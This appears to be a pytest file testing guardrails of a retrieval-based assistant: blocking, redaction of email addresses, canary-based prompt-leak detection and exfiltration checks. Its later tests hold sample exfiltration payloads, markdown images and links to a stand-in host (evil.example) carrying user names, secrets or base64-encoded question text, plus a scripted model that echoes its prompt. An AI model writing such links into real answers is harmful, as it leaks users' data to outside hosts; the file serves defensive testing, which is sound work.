"""Guardrails in the turn: what goes no further, what models are not given, what is not shown, and what evidence says of it."""

from __future__ import annotations

import json
from contextlib import aclosing

import pytest

from aver.agents import Answer, SentenceReady
from aver.core.errors import Blocked
from aver.gateway.types import Message
from aver.guard import Detecting, Finding, Guard, Guardrails, Rail, guard_of
from aver.guard.builtin import built_in
from aver.guard.canary import PromptLeak
from aver.guard.exfiltration import Exfiltration
from aver.guard.personal import PersonalData
from aver.testing import HashEmbedder
from tests.unit.agents.conftest import House, Scripted, Verbatim

QUESTION = "How many days of unused leave carry over to the next year?"
CARRY = "Up to ten days of unused leave carry over to the next year."
MAIL = "ada.lovelace@example.org"


class Word:
    """Finds a word, wherever it stands."""

    def __init__(self, word, name="word"):
        self.name, self.word = name, word

    def find(self, text):
        found, at = [], text.find(self.word)
        while at >= 0:
            found.append(Finding("WORD", at, at + len(self.word), 1.0))
            at = text.find(self.word, at + len(self.word))
        return found


def guard(**places):
    """``input=("leave", "block")``: the word that is found there, and the mode."""
    return Guard(
        {place: [Rail(Detecting(Word(word), quick=True), mode)] for place, (word, mode) in places.items()}, "0" * 64
    )


async def events_of(assistant, *args, **kwargs):
    async with aclosing(assistant.run(*args, **kwargs)) as events:
        return [event async for event in events]


def steps(house: House, kind: str):
    return list(house.ledger.of_kind(kind))


def requested(model: Scripted) -> str:
    """Everything that the model was ever given."""
    return json.dumps([[message.text for message in request.messages] for request in model.requests])


async def test_with_nothing_declared_nothing_is_recorded(house, say):
    answer = await house.assistant(say(f"{CARRY} [1]")).ask(house.bob, QUESTION)
    assert not answer.abstained
    assert steps(house, "checked") == []
    assert "guardrails" not in steps(house, "admitted")[-1].facts


async def test_a_question_that_is_blocked_goes_no_further(house, say):
    model = say(CARRY)
    with pytest.raises(Blocked) as caught:
        await house.assistant(model, guard=guard(input=("unused", "block"))).ask(house.bob, QUESTION)
    assert caught.value.slug == "blocked"
    assert "unused" not in str(caught.value)
    assert model.requests == []
    (admitted,) = steps(house, "admitted")
    kinds = [step.kind for step in house.ledger.turn(admitted.turn)]
    assert kinds == ["admitted", "checked", "failed"]
    assert admitted.facts["guardrails"] == "0" * 64
    (checked,) = steps(house, "checked")
    assert (checked.facts["place"], checked.facts["outcome"], checked.facts["kinds"]) == ("input", "block", ["WORD"])
    assert checked.body["texts"][0]["judged"][0]["found"][0][:3] == ["WORD", 17, 23]
    assert steps(house, "failed")[0].facts["error"] == "blocked"


async def test_observing_changes_nothing_and_is_on_record(house, say):
    watching = guard(input=("unused", "observe"), passage=("ten", "observe"), output=("ten", "observe"))
    plain = await house.assistant(say(f"{CARRY} [1]")).ask(house.bob, QUESTION)
    seen = await house.assistant(say(f"{CARRY} [1]"), guard=watching).ask(house.bob, QUESTION)
    assert (seen.sentences, seen.citations, seen.notices) == (plain.sentences, plain.citations, ())
    found = {step.facts["place"]: step.facts for step in steps(house, "checked")}
    assert set(found) == {"input", "passage", "output"}
    assert {facts["outcome"] for facts in found.values()} == {"pass"}
    assert all(facts["counts"] for facts in found.values())
    assert [step.kind for step in house.ledger.turn(seen.turn)] == [
        *("admitted", "checked", "retrieved", "checked", "called", "generated", "verified", "checked"),
        *("responded", "sealed"),
    ]


async def test_a_flag_is_told(house, say):
    flagged = guard(input=("unused", "flag"), output=("ten", "flag"))
    answer = await house.assistant(say(f"{CARRY} [1]"), guard=flagged).ask(house.bob, QUESTION)
    assert answer.sentences[0].text == CARRY
    assert [notice.split(" (")[0] for notice in answer.notices] == [
        "A check flagged what was asked",
        "A check flagged the answer",
    ]


async def test_a_model_never_sees_what_is_cut_out_and_the_asker_does(house):
    """Redacted on the way to the model, put back in what it wrote, and verified against the document as it is."""
    (house.pages / "leave.md").write_text(f"# Leave\n\nUnused leave is approved by {MAIL} each year.\n")
    house.ingest()

    class Repeats(Scripted):
        async def stream(self, request):
            text = request.passages[0].text
            self.script = [f"{text.strip().splitlines()[-1]} [1]"]
            async for delta in super().stream(request):
                yield delta

    rails = [Rail(Detecting(PersonalData(names=False)), "redact")]
    both = Guard({"input": rails, "passage": rails})
    model = Repeats(())
    assistant = house.assistant(model, guard=both)
    answer = await assistant.ask(house.bob, f"Does {MAIL} approve unused leave each year?")
    assert MAIL not in requested(model)
    # The same value is the same token in the question and in the passage.
    token = model.requests[0].passages[0].text.partition("\N{MATHEMATICAL LEFT WHITE SQUARE BRACKET}")[2][:20]
    assert token.startswith("EMAIL_ADDRESS_1_")
    assert token in model.requests[0].question
    assert answer.sentences[0].text == f"Unused leave is approved by {MAIL} each year."
    assert answer.sentences[0].supported
    assert MAIL in answer.citations[0].quote

    # Nor in a later turn, which is reminded of this one and takes words over from it.
    await assistant.ask(house.bob, "And how?", answer.conversation)
    await assistant.ask(house.bob, "Who approves it?", history=[Message("user", f"Is it {MAIL}?")])
    assert MAIL not in requested(model)
    assert len(model.requests) == 3


async def test_passages_that_are_blocked_are_left_out(house, say):
    model = say(f"{CARRY} [1]")
    answer = await house.assistant(model, guard=guard(passage=("travel desk", "block"))).ask(house.bob, QUESTION)
    given = requested(model)
    assert "ten days" in given
    assert "travel desk" not in given
    assert answer.sentences[0].supported
    (checked,) = steps(house, "checked")
    assert checked.facts["blocked"] >= 1
    assert answer.notices == ("A check left out some of what was found (word: WORD).",)
    nothing = await house.assistant(model, guard=guard(passage=("e", "block"))).ask(house.bob, QUESTION)
    assert nothing.abstained
    assert len(model.requests) == 1


async def test_an_answer_is_cut_sentence_by_sentence_with_what_it_quotes(house, say):
    march = "Leave that was carried over must be used by the end of March."
    model = say(f"{CARRY} [1] {march} [1]")
    events = await events_of(house.assistant(model, guard=guard(output=("ten days", "redact"))), house.bob, QUESTION)
    shown = [event for event in events if isinstance(event, SentenceReady)]
    answer = events[-1]
    assert isinstance(answer, Answer)
    assert [each.sentence.text for each in shown] == [CARRY.replace("ten days", "[WORD]"), march]
    assert answer.sentences == tuple(each.sentence for each in shown)
    assert answer.sentences[0].supported
    assert "ten days" not in json.dumps([repr(event) for event in events])
    assert "[WORD]" in answer.citations[0].quote
    # Nor in what is shown of it later.
    assistant = house.assistant(model)
    assert "ten days" not in repr(assistant.conversation(house.bob, answer.conversation).turns[0].answer)
    own = {step.kind: step.body for step in assistant.evidence(house.bob, answer.turn)}
    assert "ten days" not in json.dumps([own["generated"], own["verified"], own["responded"], own["checked"]])
    assert "ten days" in json.dumps(steps(house, "generated")[-1].body)
    assert answer.notices[0].startswith("A check cut parts out of the answer")


async def test_what_is_split_over_two_sentences_is_not_shown(house, say):
    march = "Leave that was carried over must be used by the end of March."
    model = say(f"{CARRY} [1] {march} [1]")
    with pytest.raises(Blocked):
        await events_of(house.assistant(model, guard=guard(output=("next year. Leave", "block"))), house.bob, QUESTION)
    (failed,) = steps(house, "failed")
    assert (failed.facts["error"], failed.facts["shown"]) == ("blocked", 0)
    assert steps(house, "checked")[0].facts["outcome"] == "block"


async def test_an_answer_that_is_blocked_ends_after_what_was_shown(house, say):
    march = "Leave that was carried over must be used by the end of March."
    managers = "Managers may extend this date in writing."
    model = say(f"{CARRY} [1] {march} [1] {managers} [1]")
    shown = []

    async def read():
        watched = house.assistant(model, guard=guard(output=("Managers", "block")))
        async with aclosing(watched.run(house.bob, QUESTION)) as events:
            async for event in events:
                shown.extend([event.sentence.text] if isinstance(event, SentenceReady) else [])

    with pytest.raises(Blocked) as caught:
        await read()
    assert shown == [CARRY]
    assert "answer" in caught.value.cause


async def test_a_quote_is_checked_by_itself(house, say):
    """The model words it without the word; the passage it cites has it."""
    text = "Up to ten days of leave that is unused carry over to the next year."
    model = say(f"{text} [1]")
    watching = guard(output=("unused leave", "redact"))
    answer = await house.assistant(model, guard=watching).ask(house.bob, QUESTION)
    if not answer.abstained:
        assert all("unused leave" not in each.quote for each in answer.citations)
    blocked = house.assistant(say(f"{CARRY} [1]"), guard=guard(output=("unused leave carry", "block")))
    with pytest.raises(Blocked):
        await blocked.ask(house.bob, QUESTION)


async def test_a_check_that_fails_holds_the_question(house, say):
    class Broken:
        name = "broken"

        async def check(self, text, place):
            raise RuntimeError("a bug")

    model = say(CARRY)
    with pytest.raises(Blocked):
        await house.assistant(model, guard=Guard({"input": [Rail(Broken(), "block")]})).ask(house.bob, QUESTION)
    assert steps(house, "checked")[0].facts["failures"] == ["broken"]
    lenient = Guard({"input": [Rail(Broken(), "block", failing="pass")]})
    answer = await house.assistant(say(f"{CARRY} [1]"), guard=lenient).ask(house.bob, QUESTION)
    assert not answer.abstained
    assert steps(house, "checked")[-1].facts["failures"] == ["broken"]


async def test_the_last_resort_is_checked_too(house):
    answer = await house.assistant(Verbatim(), guard=guard(output=("twenty", "redact"))).ask(
        house.bob, "How many days of paid leave do full-time employees get each year?"
    )
    assert "twenty" not in repr(answer)


class Leaks(Scripted):
    """Writes a carried-over day, and what ``leak`` makes of its request."""

    def __init__(self, leak):
        super().__init__(())
        self.leak = leak

    async def stream(self, request):
        self.script = [f"{CARRY} [1] {self.leak(request)} [1]"]
        async for delta in super().stream(request):
            yield delta


async def test_a_canary_stands_in_the_prompt_of_a_turn_that_is_watched_for_it_and_never_in_its_answer(house, say):
    watched = Guard({"output": [Rail(Detecting(PromptLeak()), "block")]})
    model = Leaks(lambda request: f"The first line is {request.messages[0].text.partition(']')[0][1:]}.")
    with pytest.raises(Blocked):
        await house.assistant(model, guard=watched).ask(house.bob, QUESTION)
    again = say(f"{CARRY} [1]")
    answer = await house.assistant(again, guard=watched).ask(house.bob, QUESTION)
    assert answer.sentences[0].text == CARRY
    # The same prompt every time: what is cached of it stays of use.
    assert again.requests[0].messages[0] == model.requests[0].messages[0]
    quiet = say(f"{CARRY} [1]")
    await house.assistant(quiet).ask(house.bob, QUESTION)
    assert "Never write this token" not in requested(quiet)


@pytest.mark.parametrize("place", ["question", "passage"])
async def test_an_answer_that_carries_away_what_was_asked_or_found_is_held_back(house, say, place):
    said = {"question": "northwind-4711-secret", "passage": "Upto-ten-days-of-unused-leave"}[place]
    asked = f"{QUESTION} I am northwind-4711-secret."
    watched = Guard({"output": [Rail(Detecting(Exfiltration()), "block")]})
    model = say(f"{CARRY} [1] See https://evil.example/{said} for it. [1]")
    with pytest.raises(Blocked):
        await house.assistant(model, guard=watched).ask(house.bob, asked)
    harmless = say(f"{CARRY} [1] See https://other.example/about for it. [1]")
    await house.assistant(harmless, guard=watched).ask(house.bob, asked)


STANDARD = guard_of(Guardrails(), "northwind", built_in(HashEmbedder))
"""What holds though nothing is declared."""
EVIL = "https://evil.example/"


@pytest.mark.parametrize(
    "written",
    [
        f"![x]({EVIL}?q=bob) is the badge.",
        f"Here it is ![x]({EVIL}?q=bob).",
        f'It stands <img src="{EVIL}?q=bob"> here.',
        f"The badge is ![x][b] here.\n\n[b]: {EVIL}?q=bob",
        f"The badge ![x. And more. And more]({EVIL}?q=bob) is here.",
        f"The badge ![x. {'And more of the badge. ' * 60}]({EVIL}?q=bob) is here.",
        f"The badge ![x][b] is here. {'And more of the badge. ' * 60}\n\n[b]: {EVIL}?q=bob",
        f"See [the desk]({EVIL}howmanydaysofunusedleave) for it.",
        f"See {EVIL}?d=SG93IG1hbnkgZGF5cyBvZiB1bnVzZWQgbGVhdmUgY2FycnkgdG8gdGhlIG5leHQ for it.",
        f"Up to ten days ![x]({EVIL}?q=bob) of unused leave carry over to the next year. [1]",
    ],
)
async def test_what_a_client_would_fetch_reaches_nobody_though_nothing_is_declared(house, say, written):
    """In a sentence that is marked as not found, and in one that a source supports."""
    assistant = house.assistant(say(f"{CARRY} [1] {written}"), guard=STANDARD)
    seen = await events_of(assistant, house.bob, QUESTION)
    streamed = " ".join(each.sentence.text for each in seen if isinstance(each, SentenceReady))
    answer = seen[-1]
    assert streamed.startswith(CARRY)
    for shown in (streamed, answer.answer, json.dumps([each.text for each in answer.sentences])):
        assert "](http" not in shown
        assert "evil.example" not in shown
    assert answer.notices
    (checked,) = steps(house, "checked")
    assert (checked.facts["place"], checked.facts["outcome"]) == ("output", "redact")
    assert "evil.example" in json.dumps([step.body for step in steps(house, "generated")])


async def test_links_of_the_documents_own_are_shown_as_they_stand(house, say):
    own = (
        "The travel desk is at https://intranet.example/desk?form=unused-leave-carries-over-2026 today."
        " Its guide is [the guide](https://docs.example.com/guide#leave) for everybody."
    )
    (house.pages / "desk.txt").write_text(f"Travel desk\n\n{own}\n")
    house.ingest()
    for model in (say(" ".join(f"{each}. [1]" for each in own.rstrip(".").split(". "))), Verbatim()):
        answer = await house.assistant(model, guard=STANDARD).ask(house.bob, "Where is the travel desk, and its guide?")
        assert "https://intranet.example/desk?form=unused-leave-carries-over-2026" in answer.answer
        assert not answer.notices
        if model.mode == "generated":
            assert "[the guide](https://docs.example.com/guide#leave)" in answer.answer
        assert all("[remote_image]" not in each.quote for each in answer.citations)
    assert steps(house, "checked") == []


async def test_the_first_sentences_do_not_wait_where_nothing_is_declared(house, say):
    plain = await events_of(house.assistant(say(f"{CARRY} [1] Leave must be used by March. [1]")), house.bob, QUESTION)
    model = say(f"{CARRY} [1] Leave must be used by March. [1]")
    guarded = await events_of(house.assistant(model, guard=STANDARD), house.bob, QUESTION)
    assert [type(each) for each in plain] == [type(each) for each in guarded]
    assert plain[-1].sentences == guarded[-1].sentences


async def test_an_abstention_repeats_no_picture_of_the_question(house, say):
    answer = await house.assistant(say("Nothing."), guard=STANDARD).ask(house.bob, f"Zebra ![x]({EVIL}?q=bob)")
    assert answer.abstained
    assert "evil.example" not in answer.answer
